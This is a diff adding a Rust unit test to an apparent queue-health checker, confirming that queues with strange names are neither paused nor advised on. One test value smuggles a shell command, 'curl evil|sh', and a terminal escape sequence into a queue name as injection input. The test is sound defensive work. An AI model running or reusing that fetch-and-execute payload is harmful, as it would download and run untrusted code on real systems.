@@ -265,6 +265,19 @@ fn there_has_to_be_room() {
 }
 
 #[test]
+fn a_member_that_reports_a_strange_queue_neither_pauses_nor_advises() {
+    for queue in ["thumbnailer.render@x;curl evil|sh #\u{1b}[2J", "thumbnailer.renderer"] {
+        let mut mesh = well();
+        mesh["queues"] = json!([{
+            "queue": queue, "reachable": true, "ready": 0, "scheduled": 0, "running": 0, "dead": 0,
+            "oldest_ready_ms": null, "paused": true,
+        }]);
+        let steps = asked(&mesh, "gateway", "thumbnailer.render");
+        assert!(steps.iter().all(|step| step.verdict == Verdict::Yes), "{steps:#?}");
+    }
+}
+
+#[test]
 fn a_queue_has_to_run() {
     let queue = |ready: u64, dead: u64, oldest: Value, paused: bool| {
         let mut mesh = well();
